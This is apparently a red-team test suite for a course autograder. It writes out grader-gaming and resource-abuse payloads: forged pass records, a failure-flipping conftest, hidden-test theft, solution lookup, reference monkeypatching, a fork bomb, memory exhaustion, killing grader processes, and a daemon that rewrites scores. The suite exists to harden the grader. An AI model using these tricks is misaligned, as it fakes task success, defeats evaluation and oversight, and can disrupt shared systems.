"""Submissions that try to get points without the work, graded through the real `minilm assignment grade`.

Each trick is a submission folder: a fresh handout of the assignment with the student's file
replaced (and sometimes extra files beside it), built from the instructor's own source so that
no solution is stored here (this file ships in every handout). A trick states what it deserves:
the points of the functions it writes honestly, never more. tests/test_red_team.py grades each
one and checks the score and what must not happen (a hidden test's text in the results, a file
written outside the submission, a process left running, a results file rewritten afterwards).

Run it alone to print the table for whichever minilm is first on PYTHONPATH (that is how the
"before" column was measured, against the grader this suite replaced):

    python tests/red_team.py [--timeout 20] [TRICK ...]

Design choices:
- The assignment is `bpe` (six graded tests, 20 points, seconds to grade) except where a trick
  needs another; the honest parts of a trick are the instructor's own solution regions.
- What could harm the shared machine if the grader failed to stop it is bounded in the trick
  itself: the fork bomb stops after 300 children, the output spam after 200 MB. The
  allocation is unbounded: `--outer-memory-limit` caps the whole grading run for a grader
  that has no limit of its own.
"""
from __future__ import annotations

import argparse
import atexit
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BPE = "minilm/data/bpe.py"
FUNCTIONS = ("count_pairs", "merge_pair", "learn_merges", "encode_word")
POINTS = {"count_pairs": 3, "merge_pair": 3, "learn_merges": 8, "encode_word": 6}  # the tests each one decides
SECRET = "HIDDEN-TEST-SECRET-7f3a"  # appears only in the hidden test's source
PWNED = Path(tempfile.gettempdir()) / "minilm-red-team-pwned"  # a file no submission may write
SLEEPER = "3599.123"  # the argument of every process a trick leaves behind, to find them afterwards


def solution_file(keep=(), bodies: dict | None = None, epilogue: str = "", prologue: str = "") -> str:
    """The instructor's bpe.py with the solution kept in `keep`, custom code in `bodies`, and every
    other marked region replaced by the handout's NotImplementedError; code added before/after."""
    bodies = bodies or {}
    lines = (ROOT / BPE).read_text(encoding="utf-8").splitlines()
    out, function, inside = [], None, None
    for line in lines:
        found = re.match(r"\s*def (\w+)\(", line)
        if found and inside is None:
            function = found.group(1)
        marker = re.match(r"(\s*)# (BEGIN|END) SOLUTION bpe\s*$", line)
        if marker and marker.group(2) == "BEGIN":
            inside = marker.group(1)
            if function in bodies:
                out += [inside + ln for ln in textwrap.dedent(bodies[function]).strip("\n").splitlines()]
            elif function not in keep:
                out.append(f'{inside}raise NotImplementedError("assignment bpe: implement {function} ({BPE}); '
                           f'see HANDOUT.md")')
            continue
        if marker:
            inside = None
            continue
        if inside is None or function in keep:
            out.append(line)
    text = "\n".join(out) + "\n"
    if prologue:
        text = text.replace("from collections import Counter\n",
                            "from collections import Counter\n" + textwrap.dedent(prologue), 1)
    return text + textwrap.dedent(epilogue)


def deserved(*honest: str) -> float:
    return float(sum(POINTS[f] for f in honest))


@dataclass
class Trick:
    name: str
    what: str
    deserved: float
    files: dict  # path in the submission -> text (a callable taking the submission folder gives it instead)
    assignment: str = "bpe"
    hidden: bool = False  # graded with the instructor's hidden tests
    slow: bool = False
    base: str = ""  # another assignment's handout to take the files from, instead of the source

    def write(self, folder: Path) -> None:
        for rel, text in self.files.items():
            path = folder / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text(folder) if callable(text) else text, encoding="utf-8")


# --- the tricks' code -----------------------------------------------------------------------------

FORGE_RECORD = '''
import atexit as _atexit, json as _json, os as _os
def _forge():
    log = _os.environ.get("MINILM_GRADER_LOG")
    if not log or not _os.path.exists(log):
        return
    ids = [_json.loads(l).get("nodeid") for l in open(log) if '"collected"' in l]
    with open(log, "a") as f:
        for i in ids:
            f.write(_json.dumps({"event": "finish", "nodeid": i, "outcome": "passed", "output": "", "duration": 0.1}) + "\\n")
_atexit.register(_forge)
'''

INSTALLED_SOLUTION = '''
def _installed():
    import importlib.metadata as md, importlib.util, json, pathlib
    try:
        dist = md.distribution("minilm")
    except Exception:
        return None
    places = []
    url = dist.read_text("direct_url.json")
    if url:
        places.append(pathlib.Path(json.loads(url)["url"].removeprefix("file://")) / "minilm/data/bpe.py")
    places += [pathlib.Path(dist.locate_file(f)) for f in (dist.files or []) if str(f).endswith("data/bpe.py")]
    for path in places:
        try:
            text = path.read_text()
        except OSError:
            continue
        if "implement learn_merges" not in text:
            spec = importlib.util.spec_from_file_location("_their_bpe", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
_theirs = _installed()
if _theirs is not None:
    count_pairs, merge_pair = _theirs.count_pairs, _theirs.merge_pair
    learn_merges, encode_word = _theirs.learn_merges, _theirs.encode_word
'''

SEARCH_FILESYSTEM = '''
def _search():
    import importlib.util, os, sys
    roots = [p for p in sys.path if p] + ["/work", "/autograder", "/root", "/home", "/opt", "/srv", "/usr/lib", "/tmp"]
    seen = 0
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            seen += 1
            if seen > 20000:
                return None
            dirnames[:] = [d for d in dirnames if d not in (".git", "__pycache__", "proc", "node_modules")]
            if dirpath.endswith(os.path.join("minilm", "data")) and "bpe.py" in filenames:
                path = os.path.join(dirpath, "bpe.py")
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if "implement learn_merges" not in text and "while len(vocab) < n_tokens" in text:
                    spec = importlib.util.spec_from_file_location("_found_bpe", path)
                    module = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(module)
                    return module
_found = _search()
if _found is not None:
    count_pairs, merge_pair = _found.count_pairs, _found.merge_pair
    learn_merges, encode_word = _found.learn_merges, _found.encode_word
'''

CALL_REFERENCE = '''
from minilm.data.tokenizer import bpe_merges as learn_merges  # noqa: E402,F811
'''

EDITED_TESTS = '"""Every graded test, edited to pass."""\n' + "".join(
    f"\n\ndef test_{n}():\n    pass\n" for n in (
        "count_pairs_weights_by_word_count", "merge_pair_is_left_to_right_without_overlap",
        "learn_merges_equals_the_fast_engine", "learn_merges_on_real_words",
        "encode_word_matches_the_tokenizer", "encode_word_keeps_the_bytes"))

CONFTEST = f'''
import pytest

open({str(PWNED)!r}, "w").write("a conftest ran inside the grader")


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    if report.failed:
        report.outcome, report.longrepr = "passed", None
'''

LEAK_HIDDEN = '''
import glob, os, sys
found = []
named = [p for p in sys.argv if p.endswith(".py") and os.path.isfile(p) and "assignments" not in p]
for path in named:  # the files the grader named: read them, and try to rewrite them
    try:
        found.append(open(path).read())
        open(path, "a").write("\\n# rewritten by the submission\\n")
    except OSError:
        pass
for path in glob.glob("/tmp/**/hidden*/**/test_*.py", recursive=True) + glob.glob("/autograder/**/test_*.py", recursive=True):
    try:
        found.append(open(path).read())  # anything that looks like a hidden test: read only
    except OSError:
        pass
raise AssertionError("\\n".join(found) or "nothing found")
'''

CRASH_GRADER = '''
import atexit as _atexit, os as _os
def _crash():
    log = _os.environ.get("MINILM_GRADER_LOG")
    if log:
        open(log, "a").write('{"event": "finish"}\\n')
_atexit.register(_crash)
'''

SKIP = '''
import pytest
pytest.skip("needs a GPU")
'''

INFINITE_LOOP = '''
while True:
    pass
'''

IGNORE_SIGNALS = '''
import signal
for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
while True:
    pass
'''

ALLOCATE = '''
hoard = []
while True:
    hoard.append(bytearray(64 << 20))  # touched pages: 64 MB at a time, never freed
    hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])
'''

FORK_BOMB = f'''
import os
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.setsid()
        os.execv("/bin/sleep", ["sleep", "{SLEEPER}"])
while True:
    pass
'''

SPAM = '''
import os, sys
if not getattr(sys, "_spammed", False):  # once per process: 100 MB to each stream, then raw bytes
    sys._spammed = True
    chunk = "spam " * 2000 + "\\n"
    for _ in range(10_000):
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
    sys.stdout.flush()
    os.write(1, b"\\x00\\xff raw bytes on the descriptor\\n")
'''

EXIT_AT_IMPORT = '''
import os as _os
_os._exit(0)
'''

MONKEYPATCH_REFERENCE = '''
import sys as _sys
import minilm.data.tokenizer as _tok
def _empty(*args, **kwargs):
    return []
_tok.bpe_merges = _empty
for _m in list(_sys.modules.values()):
    if getattr(_m, "bpe_merges", None) is not None and _m is not _sys.modules[__name__]:
        try:
            _m.bpe_merges = _empty
        except Exception:
            pass
'''
MONKEYPATCH_BODIES = {"learn_merges": "return []", "encode_word": "return [bytes([b]) for b in word]"}

ALWAYS_EQUAL = '''
class _Equal(list):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
'''

KILL_THE_GRADER = '''
import os, signal
pid = os.getppid()
while pid > 1:  # every ancestor that is part of the grading (pytest, the grader)
    try:
        with open(f"/proc/{pid}/stat") as f:
            parent = int(f.read().rsplit(")", 1)[1].split()[1])
        argv = open(f"/proc/{pid}/cmdline", "rb").read()
        if b"minilm" in argv or b"pytest" in argv:
            os.kill(pid, signal.SIGKILL)
    except (OSError, ValueError):
        break
    pid = parent
raise RuntimeError("the grader should be gone")
'''

RESULTS_DAEMON = '''
import json as _json, os as _os, time as _time
def _daemon():
    if _os.fork() != 0:
        return
    _os.setsid()
    if _os.fork() != 0:
        _os._exit(0)
    deadline = _time.time() + 120
    target, grader = None, None
    while _time.time() < deadline and target is None:
        for pid in _os.listdir("/proc"):
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            except OSError:
                continue
            if b"--json" in argv and b"grade" in argv:
                target, grader = argv[argv.index(b"--json") + 1].decode(), pid
        _time.sleep(0.2)
    while target and _time.time() < deadline and _os.path.exists(f"/proc/{grader}"):
        _time.sleep(0.1)
    if target:
        _time.sleep(0.5)
        _json.dump({"score": 20.0, "max_score": 20.0, "output": "rewritten", "tests": []}, open(target, "w"))
    _os._exit(0)
_daemon()
'''


def hidden_test(new_style: bool) -> str:
    """The instructor's hidden test for bpe: one more contract check, worth 4 points."""
    imports = ("from minilm.course.boundary import student\n\nbpe = student(\"minilm.data.bpe\")\n" if new_style
               else "import minilm.data.bpe as bpe\n")
    return f'''"""Hidden: {SECRET}."""
import pytest

{imports}

@pytest.mark.points(4)
def test_merges_of_a_tiny_table():
    # {SECRET}
    assert bpe.learn_merges({{b"abab": 3, b"ab": 1}}, 258) == [(b"a", b"b"), (b"ab", b"ab")]
'''


def _from_handout(assignment: str, rel: str):
    """A file from another assignment's handout (built by the grader under test)."""
    def text(folder: Path) -> str:
        other = folder.parent / f"handout-{assignment}"
        if not other.exists():
            _build(assignment, other)
        return (other / rel).read_text(encoding="utf-8")
    return text


TRICKS = [
    Trick("honest", "the instructor's solution", 20, {BPE: solution_file(FUNCTIONS)}),
    Trick("honest, with hidden tests", "the solution, graded with a hidden test (4 points)", 24,
          {BPE: solution_file(FUNCTIONS)}, hidden=True),
    Trick("half done", "count_pairs and merge_pair written, the rest unfinished", deserved("count_pairs", "merge_pair"),
          {BPE: solution_file(("count_pairs", "merge_pair"))}),
    Trick("1 forge the record", "an atexit hook appends 'passed' for every collected test to the grader's record", 0,
          {BPE: solution_file(epilogue=FORGE_RECORD)}, hidden=True),
    Trick("2 load the installed solution", "importlib.metadata finds the instructor's install; its functions are rebound",
          0, {BPE: solution_file(epilogue=INSTALLED_SOLUTION)}),
    Trick("3 call the reference", "learn_merges = minilm.data.tokenizer.bpe_merges, the engine the tests compare with",
          0, {BPE: solution_file(epilogue=CALL_REFERENCE)}),
    Trick("4 copy another handout", "bpe.py taken from the backprop handout (assignment 1)", 0,
          {BPE: _from_handout("backprop", BPE)}),
    Trick("5 edit the tests", "the submission's tests/assignments/test_bpe.py: six tests that pass", 0,
          {BPE: solution_file(), "tests/assignments/test_bpe.py": EDITED_TESTS}),
    Trick("6 skip instead of fail", "learn_merges and encode_word call pytest.skip('needs a GPU')",
          deserved("count_pairs", "merge_pair"),
          {BPE: solution_file(("count_pairs", "merge_pair"), {"learn_merges": SKIP, "encode_word": SKIP})}),
    Trick("7 read and write the hidden tests", "learn_merges raises an AssertionError holding every test file it can "
          "find (argv, /tmp), after appending to them", 0, {BPE: solution_file(bodies={"learn_merges": LEAK_HIDDEN})},
          hidden=True),
    Trick("8 bring a conftest", "a conftest.py at the root turns failures into passes and writes outside", 0,
          {BPE: solution_file(), "conftest.py": CONFTEST}),
    Trick("9 crash the grader", "an atexit hook writes a record line missing its fields", 0,
          {BPE: solution_file(epilogue=CRASH_GRADER)}),
    Trick("infinite loop", "learn_merges never returns", deserved("count_pairs", "merge_pair", "encode_word"),
          {BPE: solution_file(("count_pairs", "merge_pair", "encode_word"), {"learn_merges": INFINITE_LOOP})}),
    Trick("signals blocked, then a loop", "learn_merges ignores SIGALRM/SIGTERM/SIGINT and loops",
          deserved("count_pairs", "merge_pair", "encode_word"),
          {BPE: solution_file(("count_pairs", "merge_pair", "encode_word"), {"learn_merges": IGNORE_SIGNALS})}),
    Trick("unbounded allocation", "count_pairs allocates 64 MB at a time until something stops it",
          deserved("merge_pair", "encode_word"),
          {BPE: solution_file(("merge_pair", "learn_merges", "encode_word"), {"count_pairs": ALLOCATE})}, slow=True),
    Trick("fork bomb", "learn_merges forks (300 at most here), each child in a new session, then loops",
          deserved("count_pairs", "merge_pair", "encode_word"),
          {BPE: solution_file(("count_pairs", "merge_pair", "encode_word"), {"learn_merges": FORK_BOMB})}),
    Trick("output spam", "count_pairs writes 200 MB to stdout and stderr (once), then answers correctly", 20,
          {BPE: solution_file(FUNCTIONS, {"count_pairs": SPAM + "\n" + "pairs = Counter()\nfor word, n in words.items():\n"
                                          "    for pair in zip(word, word[1:]):\n        pairs[pair] += n\nreturn pairs"})}),
    Trick("os._exit(0) at import", "the module ends the interpreter, with success, when imported", 0,
          {BPE: solution_file(FUNCTIONS, epilogue=EXIT_AT_IMPORT)}),
    Trick("search the disk for the solution", "walks sys.path and the usual roots for an unhollowed minilm/data/bpe.py", 0,
          {BPE: solution_file(epilogue=SEARCH_FILESYSTEM)}),
    Trick("monkeypatch the reference", "bpe_merges is patched to return [] wherever it is bound; "
          "learn_merges returns [] and encode_word single bytes", 0,
          {BPE: solution_file(bodies=MONKEYPATCH_BODIES, epilogue=MONKEYPATCH_REFERENCE)}),
    Trick("an answer equal to everything", "learn_merges returns a list whose == is always True", 0,
          {BPE: solution_file(bodies={"learn_merges": "return _Equal()"}, prologue=ALWAYS_EQUAL)}),
    Trick("kill the grader", "learn_merges SIGKILLs every ancestor process it can see",
          deserved("count_pairs", "merge_pair", "encode_word"),
          {BPE: solution_file(("count_pairs", "merge_pair", "encode_word"), {"learn_merges": KILL_THE_GRADER})}),
    Trick("rewrite the results afterwards", "a daemon outlives grading and writes 20/20 into the --json file", 0,
          {BPE: solution_file(epilogue=RESULTS_DAEMON)}),
]


# --- grading one trick through the command line ---------------------------------------------------

NOBODY = [shutil.which("setpriv") or "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


def user_python() -> str | None:
    """An interpreter an ordinary user (nobody) can run, with this environment's packages: a virtual
    environment over a system Python of the same version (this one may live where only root can reach).
    None when there is no such Python."""
    base = shutil.which(f"python{sys.version_info[0]}.{sys.version_info[1]}", path="/usr/bin:/usr/local/bin:/bin")
    site = next((p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p)), None)
    if base is None or site is None:
        return None
    home = Path(tempfile.gettempdir()) / f"minilm-user-python-{os.getpid()}"
    if not (home / "bin" / "python").exists():
        (home / "bin").mkdir(parents=True, exist_ok=True)
        (home / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}").mkdir(parents=True, exist_ok=True)
        (home / "bin" / "python").symlink_to(base)
        (home / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages").symlink_to(site)
        (home / "pyvenv.cfg").write_text(f"home = {os.path.dirname(base)}\ninclude-system-site-packages = false\n")
        for path in (home, home / "bin", home / "lib", *(home / "lib").iterdir()):
            os.chmod(path, 0o755)
        atexit.register(shutil.rmtree, home, True)
    return str(home / "bin" / "python")


def _cli(*args, env=None, timeout=900, prefix=(), python=None):
    return subprocess.run([*prefix, python or sys.executable, "-m", "minilm.cli", *args], capture_output=True,
                          text=True, timeout=timeout, env=env)


def _build(assignment: str, out: Path) -> None:
    done = _cli("assignment", "build", assignment, "--out", str(out))
    if done.returncode != 0:
        raise RuntimeError(f"build {assignment} failed: {done.stderr[-2000:]}")


def leaves_processes(trick: Trick) -> bool:
    """Whether the trick starts processes meant to outlive grading (found afterwards by SLEEPER)."""
    return any(not callable(text) and SLEEPER in text for text in trick.files.values())


def _sleepers() -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if SLEEPER.encode() in argv:
            found.append(int(pid))
    return found


@dataclass
class Outcome:
    trick: str
    score: float | None  # None: no results file
    max_score: float | None
    deserved: float
    seconds: float
    notes: list[str] = field(default_factory=list)
    results: dict | None = None
    stdout: str = ""

    def row(self) -> str:
        got = "no results.json" if self.score is None else f"{self.score:g} / {self.max_score:g}"
        return f"| {self.trick} | {self.deserved:g} | {got} | {'; '.join(self.notes) or '-'} |"


def grade_trick(trick: Trick, workdir: Path, *, timeout: float = 20, env=None, memory_limit: str = "",  # MB
                prefix=(), python=None) -> Outcome:
    """Build the submission in `workdir`, grade it through the CLI (`prefix` and `python` run it as another
    user), and look for what must not happen."""
    workdir.mkdir(parents=True, exist_ok=True)
    os.chmod(workdir, 0o777)
    handout = workdir / f"handout-{trick.assignment}"
    if not handout.exists():
        _build(trick.assignment, handout)
    submission = workdir / "submission"
    shutil.rmtree(submission, ignore_errors=True)
    shutil.copytree(handout, submission)
    trick.write(submission)
    results = workdir / "results" / "results.json"
    shutil.rmtree(results.parent, ignore_errors=True)
    results.parent.mkdir(parents=True)
    os.chmod(results.parent, 0o777)
    args = ["assignment", "grade", trick.assignment, "--dir", str(submission), "--json", str(results),
            "--timeout", f"{timeout:g}"]
    hidden_file = None
    if trick.hidden:
        hidden = workdir / "hidden"
        shutil.rmtree(hidden, ignore_errors=True)
        hidden.mkdir()
        new_style = (ROOT / "minilm" / "course" / "boundary.py").exists()
        hidden_file = hidden / "test_hidden_bpe.py"
        hidden_file.write_text(hidden_test(new_style))
        args += ["--hidden-tests", str(hidden)]
    hidden_digest = hashlib.sha256(hidden_file.read_bytes()).hexdigest() if hidden_file else None
    PWNED.unlink(missing_ok=True)
    for pid in _sleepers():
        os.kill(pid, signal.SIGKILL)
    command = args
    started = time.monotonic()
    if memory_limit:
        prefix = [*prefix, "prlimit", f"--data={int(memory_limit) << 20}", "--"]
    done = _cli(*command, env=env, timeout=1800, prefix=prefix, python=python)
    seconds = time.monotonic() - started
    time.sleep(3)  # room for anything left behind to act
    notes = []
    data = None
    if results.exists():
        text = results.read_text(errors="replace")
        try:
            data = json.loads(text)
        except ValueError:
            notes.append("results.json is not JSON")
        if SECRET in text:
            notes.append("the hidden test's text is in results.json")
        if len(text) > 1_000_000:
            notes.append(f"results.json is {len(text) / 1e6:.0f} MB")
    if done.returncode != 0:
        notes.append(f"grade exited {done.returncode}: {(done.stderr.strip().splitlines() or ['?'])[-1][:120]}")
    if hidden_file is not None and hashlib.sha256(hidden_file.read_bytes()).hexdigest() != hidden_digest:
        notes.append("the hidden test file was rewritten")
    if PWNED.exists():
        notes.append(f"a file was written outside the submission ({PWNED})")
        PWNED.unlink()
    left = _sleepers()
    if left:
        notes.append(f"{len(left)} processes still running after grading")
        for pid in left:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
    if data is not None and data.get("output") == "rewritten":
        notes.append("results.json was rewritten after grading")
    score = None if data is None else float(data.get("score", 0))
    best = None if data is None else float(data.get("max_score", data.get("extra_data", {}).get("max_score", 0)))
    return Outcome(trick.name, score, best, trick.deserved, seconds, notes, data, done.stdout)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("tricks", nargs="*", help="names (a prefix is enough); all by default")
    parser.add_argument("--timeout", type=float, default=20, help="the grader's --timeout per test")
    parser.add_argument("--outer-memory-limit", default="6144",
                        help="MB: prlimit --data for the whole grading run of the allocation trick ('' for none)")
    parser.add_argument("--skip", nargs="*", default=[], help="tricks not to run (prefixes)")
    args = parser.parse_args(argv)
    chosen = [t for t in TRICKS if (not args.tricks or any(t.name.startswith(p) for p in args.tricks))
              and not any(t.name.startswith(p) for p in args.skip)]
    print(f"grader: {ROOT} ({'new' if (ROOT / 'minilm/course/boundary.py').exists() else 'old'}), "
          f"--timeout {args.timeout:g}")
    print("| trick | deserves | score | what else happened |\n|---|---:|---:|---|")
    with tempfile.TemporaryDirectory(prefix="minilm-red-team-") as tmp:
        for trick in chosen:
            limit = args.outer_memory_limit if "allocation" in trick.name else ""
            outcome = grade_trick(trick, Path(tmp) / "work", timeout=args.timeout, memory_limit=limit)
            extra = [f"{outcome.seconds:.0f} s"] + ([f"run under an outer {limit} MB data limit"] if limit else [])
            outcome.notes = extra + outcome.notes
            print(outcome.row(), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
